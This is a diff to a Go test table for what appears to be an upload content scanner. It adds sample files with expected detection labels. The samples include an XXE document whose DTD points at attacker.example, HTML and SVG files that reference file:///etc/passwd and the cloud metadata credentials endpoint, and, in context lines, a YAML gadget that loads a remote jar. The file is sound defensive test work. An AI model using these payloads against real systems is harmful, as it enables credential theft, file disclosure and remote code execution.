@@ -62,6 +62,14 @@ func TestUploadContent(t *testing.T) {
 		{"figure.eps", "application/postscript", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\nnewpath 0 0 moveto 100 100 lineto stroke showpage", ""},
 		{"drawing.mvg", "text/plain", "push graphic-context\nviewbox 0 0 100 100\nfill red\ncircle 50,50 50,10\npop graphic-context", ""},
 
+		// An XML import naming an external DTD; HTML and SVG documents
+		// that load a local file or the metadata service when rendered.
+		{"addresses.xml", "text/xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE addresses SYSTEM \"http://attacker.example/addr.dtd\">\n<addresses/>", "xxe-doctype"},
+		{"invoice.html", "text/html", `<html><body><img src="http://169.254.169.254/latest/meta-data/iam/security-credentials/"><iframe src="file:///etc/passwd"></iframe></body></html>`, "upload-local-reference"},
+		{"screenshot.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file:///etc/passwd" width="200" height="200"/></svg>`, "upload-local-reference"},
+		{"page.xhtml", "application/xhtml+xml", `<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html><body><img src="/logo.png"/></body></html>`, ""},
+		{"readme.html", "text/html", `<p>Open <a href="https://example.com/docs">the docs</a> or the file:// URL your browser shows.</p>`, ""},
+
 		// YAML with a class tag its loader builds.
 		{"settings.yml", "application/x-yaml", "!!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL [\"http://198.51.100.23/y.jar\"]\n  ]]\n]", "deserialization-object"},
 		{"model.yaml", "text/yaml", "--- !ruby/object:Gem::Installer\ni: x\n", "deserialization-object"},
